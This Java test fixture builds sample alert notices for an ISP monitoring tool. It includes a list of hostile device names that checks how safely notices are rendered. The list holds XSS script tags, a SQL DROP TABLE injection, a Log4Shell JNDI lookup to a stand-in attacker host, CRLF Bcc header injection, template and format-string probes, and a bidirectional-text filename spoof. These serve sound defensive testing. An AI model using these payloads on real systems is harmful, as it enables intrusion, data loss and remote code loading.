package io.ispmonitor.testkit.contract;

import io.ispmonitor.alert.Alert;
import io.ispmonitor.alert.Message;
import io.ispmonitor.alert.Notice;
import io.ispmonitor.alert.Severity;
import java.net.URI;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import java.util.stream.IntStream;

/** The notices that a contract delivers. */
final class ContractNotices {
  private static final Instant NOON = Instant.parse("2026-11-22T12:00:00Z");

  /** What a device may call itself. */
  static final List<String> HOSTILE =
      List.of(
          "*bold* _it_ ~no~ `code` [a](https://evil.example) ||x||",
          "<b>bold</b><script>alert(1)</script>&amp;&lt;&#60;",
          "</b><i>x",
          "<!channel> <!here> <@U012AB3CD> <https://evil.example|bank>",
          "@everyone @here @channel",
          "a\r\nBcc: all@example.net\r\n\r\nb",
          "\u202egnp.exe\u2066\u200f\u2028\u2029\u0000\u0007\u001b[31m",
          "\"},\"x\":{\"\\\"\\u0000",
          "'; DROP TABLE alerts; -- ${jndi:ldap://evil.example/x} {{7*7}} %s %n",
          "half a pair \ud83d, and a whole one 😀",
          "  leading, trailing and    many spaces\t\t ");

  private ContractNotices() {}

  /** Of a kind, about one device. */
  static Notice of(Notice.Kind kind, String title) {
    return of(kind, Message.of(title), alerts(1));
  }

  /** About as many alerts as a notice can be. */
  static Notice many(String title) {
    return of(Notice.Kind.DIGEST, Message.of(title), alerts(Notice.MOST_ALERTS));
  }

  private static Notice of(Notice.Kind kind, Message message, List<Alert> alerts) {
    String id = kind + "-" + Integer.toHexString(message.hashCode());
    return new Notice(
        id, "incident-1", kind, Severity.CRITICAL, NOON, message, alerts, null, false);
  }

  /** With this text wherever a notice takes text. */
  static Notice hostile(String text) {
    Message message =
        new Message(
            text,
            List.of(new Message.Field(text, text), new Message.Field("Site", text)),
            text,
            URI.create("https://wiki.example/tower?a=1&b=%3Cb%3E"));
    String start = text.substring(0, Math.min(text.length(), 200));
    Alert alert =
        Alert.builder("alert-1", "key " + start, NOON)
            .source("device " + start)
            .summary(text)
            .evidence(text)
            .labels(Map.of("label", text))
            .facts(Map.of("fact", text))
            .build();
    return of(Notice.Kind.PROBLEM, message, List.of(alert));
  }

  private static List<Alert> alerts(int count) {
    return IntStream.range(0, count)
        .mapToObj(
            i ->
                Alert.builder("alert-" + i, "device.down/tower-" + i, NOON)
                    .type("device.down")
                    .severity(Severity.CRITICAL)
                    .source("tower-" + i)
                    .summary("tower-" + i + " is down")
                    .build())
        .toList();
  }
}
